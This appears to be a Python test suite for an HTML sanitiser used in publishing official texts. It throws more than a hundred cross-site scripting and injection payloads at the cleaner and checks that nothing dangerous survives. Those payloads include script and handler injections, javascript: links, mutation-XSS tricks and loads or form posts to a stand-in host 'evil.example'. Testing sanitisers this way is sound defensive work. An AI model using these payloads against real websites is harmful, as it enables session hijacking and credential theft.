"""Nothing that runs, loads from elsewhere or deceives stays in a text, whatever is tried; words and pictures stay."""

from __future__ import annotations

import re
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html

from gongkai.web.publishing import plaintext, sanitising
from gongkai.web.publishing.sanitising import (
    ATTRIBUTES,
    TAGS,
    body,
    clean,
    described,
    figure,
    paragraphs,
    pictures,
    placed,
    references,
)

ATTACKS = {
    "a script": "<script>steal()</script>",
    "a script in capitals": "<SCRIPT>steal()</SCRIPT>",
    "a script with a slash": "<script/x>steal()</script>",
    "a script from elsewhere": "<script src=https://evil.example/x.js></script>",
    "a script that is never closed": "<script>steal()",
    "a script within a script": "<scr<script>ipt>steal()</scr</script>ipt>",
    "a script split by a comment": "<scr<!-- -->ipt>steal()</scr<!-- -->ipt>",
    "a script behind a broken tag": "<<script>steal();//<</script>",
    "a script with a NUL in its name": "<scr\0ipt>steal()</scr\0ipt>",
    "a script in a CDATA section": "<![CDATA[<script>steal()</script>]]>",
    "a script in a processing instruction": "<?xml version='1.0'?><script>steal()</script>",
    "a script in a conditional comment": "<!--[if gte IE 4]><script>steal()</script><![endif]-->",
    "a comment that ends early": "<!--><img src=x onerror=steal()>-->",
    "a comment that ends with a bang": "<!-- --!><img src=x onerror=steal()>",
    "an image that fails": "<img src=x onerror=steal()>",
    "an image that fails, with slashes": "<img/src=x/onerror=steal()>",
    "an image that fails, quoted oddly": "<img src=`x`onerror=`steal()`>",
    "an image with a handler on a new line": "<img src=x\nonerror\n=\nsteal()>",
    "an image with an open quote": '<img """><script>steal()</script>">',
    "an image that loads": "<img src='files/1/' alt='管网' onload=steal()>",
    "an image by its set": "<img srcset='https://evil.example/a.png 1x' src='files/1/'>",
    "an image from elsewhere": "<img src=https://evil.example/pixel.gif>",
    "an image without a scheme": "<img src=//evil.example/pixel.gif>",
    "an image of data": "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9c3RlYWwoKT4='>",
    "an image of javascript": "<img src='javascript:steal()'>",
    "an image that climbs": "<img src='files/1/../../../logout/'>",
    "an image with a query": "<img src='files/1/?x=1'>",
    "an old image": "<image src=x onerror=steal()>",
    "a lowsrc": "<img dynsrc='javascript:steal()' lowsrc='javascript:steal()'>",
    "a handler on a paragraph": "<p onclick=steal()>文</p>",
    "a handler in capitals": "<p ONMOUSEOVER=steal()>文</p>",
    "a handler without a blank": '<p title="x"onclick=steal()>文</p>',
    "a handler with a form feed": "<p\x0conclick=steal()>文</p>",
    "a handler with a vertical tab": "<p\x0bonclick=steal()>文</p>",
    "a handler on focus": "<a href='#' onfocus=steal() autofocus>文</a>",
    "a handler that nobody knows": "<p onbeforematch=steal() hidden=until-found>文</p>",
    "a handler on a table": "<table onanimationstart=steal()><tr><td onwheel=steal()>文</table>",
    "a link to javascript": "<a href='javascript:steal()'>文</a>",
    "a link to JaVaScRiPt": "<a href='JaVaScRiPt:steal()'>文</a>",
    "a link with a blank in front": "<a href=' javascript:steal()'>文</a>",
    "a link with a control in front": "<a href='\x01javascript:steal()'>文</a>",
    "a link with a tab inside": "<a href='java\tscript:steal()'>文</a>",
    "a link with a line end inside": "<a href='java\nscript:steal()'>文</a>",
    "a link in decimal entities": "<a href='&#106;&#97;&#118;&#97;script:steal()'>文</a>",
    "a link in long entities": "<a href='&#0000106avascript:steal()'>文</a>",
    "a link in hexadecimal": "<a href='&#x6A;avascript&#x3a;steal()'>文</a>",
    "a link with a named colon": "<a href='javascript&colon;steal()'>文</a>",
    "a link with a named tab": "<a href='java&Tab;script:steal()'>文</a>",
    "a link with a named new line": "<a href='java&NewLine;script:steal()'>文</a>",
    "a link to vbscript": "<a href='vbscript:steal()'>文</a>",
    "a link to data": "<a href='data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+'>文</a>",
    "a link to a blob": "<a href='blob:https://evil.example/1'>文</a>",
    "a link to a file": "<a href='file:///etc/passwd'>文</a>",
    "a link to a view of source": "<a href='view-source:javascript:steal()'>文</a>",
    "a link without a scheme": "<a href='//evil.example/'>文</a>",
    "a link with two backslashes": "<a href='\\\\evil.example/'>文</a>",
    "a link with a slash and a backslash": "<a href='/\\evil.example/'>文</a>",
    "a link with a tab between slashes": "<a href='/\t/evil.example/'>文</a>",
    "a link with a line end between slashes": "<a href='/&#10;/evil.example/'>文</a>",
    "a link with a name in front of the host": "<a href='https://gov.example@evil.example/'>文</a>",
    "a link of https without slashes": "<a href='https:evil.example'>文</a>",
    "a link with a turned name": "<a href='https://evil.example/\u202egpj.exe'>文</a>",
    "a link that climbs": "<a href='files/../../logout/'>文</a>",
    "a link with a target": "<a href='https://a.example/' target=_blank ping='https://evil.example/'>文</a>",
    "a link with a target and its opener": "<a href='https://a.example/' rel=opener>文</a>",
    "a mail with a copy to somebody": "<a href='mailto:a@a.example?bcc=b@evil.example'>文</a>",
    "a drawing": "<svg onload=steal()></svg>",
    "a drawing with a slash": "<svg/onload=steal()>",
    "a drawing with a script": "<svg><script>steal()</script></svg>",
    "a drawing with a script by entity": "<svg><script>&#115;teal()</script></svg>",
    "a drawing with an animation": "<svg><animate onbegin=steal() attributeName=x dur=1s></svg>",
    "a drawing that sets a link": "<svg><a><set attributeName=href to=javascript:steal()><text>文</text></a></svg>",
    "a drawing with a link": "<svg><a xlink:href='javascript:steal()'><text>文</text></a></svg>",
    "a drawing that uses another": "<svg><use href='data:image/svg+xml,<svg id=x onload=x>#x'></use></svg>",
    "a drawing with a foreign part": "<svg><foreignObject><img src=x onerror=steal()></foreignObject></svg>",
    "a drawing with a style in it": "<svg></p><style><a id=\"</style><img src=1 onerror=steal()>\">",
    "a drawing with a title": "<svg><title><style><img src=x onerror=steal()></style></title></svg>",
    "a formula": "<math href='javascript:steal()'>文</math>",
    "a formula with an action": "<math><maction actiontype='x' xlink:href='javascript:steal()'>文</maction></math>",
    "a formula that changes when read again": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=steal()&gt;'>",
    "a form in a formula": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>",
    "a form in a form": "<form id=a><div></form><form id=b><input onfocus=steal() autofocus>",
    "a noscript": '<noscript><p title="</noscript><img src=x onerror=steal()>">',
    "a noembed": '<noembed><p title="</noembed><img src=x onerror=steal()>">',
    "a noframes": '<noframes><p title="</noframes><img src=x onerror=steal()>">',
    "a template": "<template><img src=x onerror=steal()></template>",
    "a template with a shadow": "<div><template shadowrootmode=open><script>steal()</script></template></div>",
    "a textarea": '<textarea><p title="</textarea><img src=x onerror=steal()>">',
    "a title": '<title><p title="</title><img src=x onerror=steal()>">',
    "an xmp": '<xmp><p title="</xmp><svg/onload=steal()>">',
    "a plaintext": "<plaintext><img src=x onerror=steal()>",
    "a select": "<select><option><style></option></select><img src=x onerror=steal()></style>",
    "a table that throws things out": "<table><caption><svg><title><style></title><img src=x onerror=steal()></table>",
    "a frame": "<iframe src='javascript:steal()'></iframe>",
    "a frame with its document": "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "a frame with an encoded document": "<iframe srcdoc='&lt;script&gt;steal()&lt;/script&gt;'></iframe>",
    "a set of frames": "<frameset onload=steal()><frame src='javascript:steal()'></frameset>",
    "an object": "<object data='javascript:steal()'></object>",
    "an object of data": "<object data='data:text/html,<script>steal()</script>'></object>",
    "an embed": "<embed src='javascript:steal()'>",
    "an applet": "<applet code=Steal archive='https://evil.example/x.jar'></applet>",
    "a portal": "<portal src='https://evil.example/' onload=steal()></portal>",
    "a refresh": "<meta http-equiv=refresh content='0;url=javascript:steal()'>",
    "a refresh to elsewhere": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "a base": "<base href='https://evil.example/'>",
    "a sheet from elsewhere": "<link rel=stylesheet href='https://evil.example/x.css'>",
    "an import": "<link rel=import href='https://evil.example/x.html'>",
    "a style": "<style>body{background:url(javascript:steal())}</style>",
    "a style that imports": "<style>@import 'https://evil.example/x.css';</style>",
    "a style attribute": "<p style='background:url(https://evil.example/x.png)'>文</p>",
    "an expression": "<p style='width:expression(steal())'>文</p>",
    "an expression with a comment": "<p style='width:exp/**/ression(steal())'>文</p>",
    "a binding": "<p style='-moz-binding:url(https://evil.example/x.xml#x)'>文</p>",
    "a cover over the page": "<p style='position:fixed;inset:0'>文</p>",
    "a class of the page": "<p class='notice error'>文</p>",
    "an identity of the page": "<p id=main name=main>文</p>",
    "a form": "<form action='https://evil.example/'><input name=password><button>登录</button></form>",
    "a button with an action": "<button form=x formaction='javascript:steal()'>文</button>",
    "an input": "<input type=image src=x onerror=steal()>",
    "a key of its own": "<a accesskey=x onclick=steal() href='#'>文</a>",
    "an editable text": "<p contenteditable onblur=steal()>文</p>",
    "a film": "<video><source onerror=steal()></video>",
    "a film with a poster": "<video poster='javascript:steal()' controls></video>",
    "a sound": "<audio src=x onerror=steal()>",
    "a canvas": "<canvas onclick=steal()></canvas>",
    "a marquee": "<marquee onstart=steal()>文</marquee>",
    "details that open": "<details open ontoggle=steal()>文</details>",
    "a dialogue": "<dialog open onclose=steal()>文</dialog>",
    "a body": "<body onload=steal() background='javascript:steal()'>",
    "a page": "<html><head><script>steal()</script></head><body onpageshow=steal()>文</body></html>",
    "an element of its own": "<x-steal onclick=steal()>文</x-steal>",
    "an element with a namespace": "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>steal()</html:script>",
    "a background": "<table background='javascript:steal()'><tr><td background='javascript:steal()'>文</table>",
    "a data source": "<table datasrc='#x'><tr><td datafld=y>文</table>",
    "a long span": "<table><tr><td colspan=99999999 rowspan=-1>文</table>",
    "UTF-7": "+ADw-script+AD4-steal()+ADw-/script+AD4-",
    "wide signs": "＜script＞steal()＜/script＞",
    "a byte order mark": "\ufeff<script>steal()</script>",
    "words that turn": "\u202e<p>\u2066stop\u2069</p>",
    "words that turn by entity": "<p>&#x202e;x&#8238;</p>",
    "an unclosed attribute": "<p title='<img src=x onerror=steal()>",
    "an unclosed tag": "<p><b><a href='javascript:steal()'",
    "tags closed in the wrong order": "<b><p><a href='javascript:steal()'></b>文</p></a>",
    "a backquote": "<a href=`javascript:steal()`>文</a>",
}  # fmt: skip


def faults(text: str) -> list[str]:
    """What of a text, as a parser reads it, may not be in one."""
    found: list[str] = []
    for node in html.fragment_fromstring(text, create_parent="main").iterdescendants():
        if not isinstance(node.tag, str) or node.tag not in TAGS:
            found.append(f"<{node.tag}>")
            continue
        for name, value in node.attrib.items():
            allowed = name in ATTRIBUTES.get(node.tag, set()) or (name, value) == ("rel", "noopener")
            if not allowed or not _is_harmless(name, value):
                found.append(f"{node.tag} {name}={value!r}")
    return found


def _is_harmless(name: str, value: str) -> bool:
    if name == "src":
        return bool(re.fullmatch(r"files/\d{1,4}/", value))
    if name != "href":
        return True
    if re.search(r"[\x00-\x20\x7f\\\u202a-\u202e]", value):
        return False
    parts = urlsplit(value)
    return parts.scheme in ("", "http", "https", "mailto") and (bool(parts.scheme) or not parts.netloc)


def test_the_search_for_faults_finds_them() -> None:
    """The judge of what follows is no blind one."""
    for bad in (
        "<script>x</script>", "<p onclick=x>", "<a href='javascript:x'>", "<a href='//x.example'>", "<img src=x>",
        "<a href='java\tscript:x'>",
    ):  # fmt: skip
        assert faults(bad)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_nothing_dangerous_is_left_of(attack: str) -> None:
    for text in (
        attack,
        f"<p>前{attack}后</p>",
        f"<table><tr><td>{attack}</td></tr></table>",
        attack * 2,
        attack.upper(),
    ):
        for kept in (clean(text), body(text)):
            assert not faults(kept)
            assert clean(kept) == kept
            assert not re.search(r"[\x00\u202a-\u202e\u2066-\u2069]", kept)


@pytest.mark.parametrize("attack", [one for name, one in ATTACKS.items() if "script>" in one.lower() and "<s" in one])
def test_what_a_script_says_is_no_words_of_the_text(attack: str) -> None:
    if not attack.lower().startswith(("<script", "<svg><script", "<iframe", "<object", "<template")):
        return
    assert "steal" not in plaintext.of_html(clean(attack))


def test_many_attacks_are_tried() -> None:
    assert len(ATTACKS) > 100


PARTS = st.sampled_from(
    [
        "<", ">", '"', "'", "=", "/", "&", ";", " ", "\n", "\0", "<!--", "-->", "]]>", "<p>", "</p>", "<b>",
        "</b>", "<i>", "<a href='/x/'>", "</a>", "<table>", "<tr>", "<td>", "</table>", "<svg>", "</svg>",
        "<math>", "<mtext>", "<style>", "</style>", "<script>", "</script>", "<img src='files/1/' alt='",
        "<img src=x onerror=x>", "javascript:", "&lt;", "&#60;", "&amp;", "<ul>", "<li>", "<h2>", "<figure>",
        "<caption>", "<form>", "<select>", "<template>", "<noscript>", "<foreignObject>", "<title>",
        "<textarea>", "<br>", "字", "\u202e", "&#x202e;", "&nbsp;", "<sub>", "<blockquote>",
    ]
)  # fmt: skip
TEXTS = st.one_of(st.text(max_size=200), st.lists(PARTS, max_size=40).map("".join))


@given(TEXTS)
def test_what_is_clean_stays_as_it_is_and_holds_nothing_forbidden(text: str) -> None:
    kept = clean(text)
    assert clean(kept) == kept
    assert not faults(kept)


@given(TEXTS)
def test_a_typed_text_is_clean_whatever_it_is(text: str) -> None:
    kept = body(text)
    assert not faults(kept)
    assert clean(kept) == kept


@given(st.text("供水管网第一条，。：（）、abcXYZ019<>&\"'#;/é😀", max_size=60))
def test_words_without_tags_come_out_as_they_were_written(text: str) -> None:
    assert plaintext.of_html(clean(paragraphs(text))) == text


def test_what_an_official_text_needs_stays() -> None:
    text = (
        '<h2>一、范围</h2><p>东至<b>渡口</b>，见<a href="https://a.example/x?y=1#z" rel="noopener">甲</a>。'
        '<br>另见<a href="/items/x/" rel="noopener">条目</a>、<a href="files/2/" rel="noopener">附件</a>、'
        '<a href="mailto:ogi@a.example" rel="noopener">邮箱</a></p><ol start="3"><li>甲</li></ol>'
        '<table><caption>表</caption><thead><tr><th scope="col">项</th></tr></thead>'
        '<tbody><tr><td colspan="2">乙</td></tr></tbody></table>'
        '<figure><img src="files/1/" alt="管网图"><figcaption>图1</figcaption></figure><hr>'
    )  # fmt: skip
    assert clean(text) == text


def test_a_text_that_no_cleaning_brings_to_rest_is_kept_as_words(monkeypatch: pytest.MonkeyPatch) -> None:
    cleaned = sanitising._once
    monkeypatch.setattr(sanitising, "_once", lambda text: cleaned(text) + ("<b>x</b>" if "甲" in text else ""))
    monkeypatch.setattr(sanitising, "_words", lambda text: cleaned("<p>words</p>"))
    assert clean("<p>甲</p>") == "<p>words</p>"
    monkeypatch.undo()
    assert sanitising._words("<p>甲 &lt;b&gt;</p><p>乙</p>") == "<p>甲 &lt;b&gt;</p>\n<p>乙</p>"


def test_plain_lines_become_paragraphs_and_html_does_not() -> None:
    assert body("第一段 a < b\n\n第二段 & 完") == "<p>第一段 a &lt; b</p>\n<p>第二段 &amp; 完</p>"
    assert body("<p>一</p>二") == "<p>一</p>二"
    assert body(" \n ") == ""


def test_a_picture_that_is_nobody_s_is_taken_out_whole() -> None:
    assert clean("甲<img src='https://evil.example/x.png' alt='x'>乙<img>丙") == "甲乙丙"


def test_the_files_of_a_text_are_known_and_moved_and_described() -> None:
    text = clean("<p><img src='files/1/'><img alt='有' src='files/2/'><a href='files/3/'>附件</a>files/4/</p>")
    assert pictures(text) == {1, 2}
    assert references(text) == {1, 2, 3}
    moved = placed(text, {1: 2, 2: 1, 3: 7})
    assert (pictures(moved), references(moved)) == ({1, 2}, {1, 2, 7})
    assert placed(moved, {1: 2, 2: 1, 7: 3}) == text
    said = described(text, {1: '管网"图"', 2: "别的"})
    assert "管网&quot;图&quot;" in said and "有" in said and "别的" not in said
    assert clean(said) == said


def test_a_figure_is_clean_as_it_is_made() -> None:
    made = figure(3, '<b>"图"</b>', "说明 & <i>")
    assert pictures(made) == {3}
    assert not faults(made)
    assert plaintext.of_html(clean(made)).splitlines() == ['<b>"图"</b>', "说明 & <i>"]
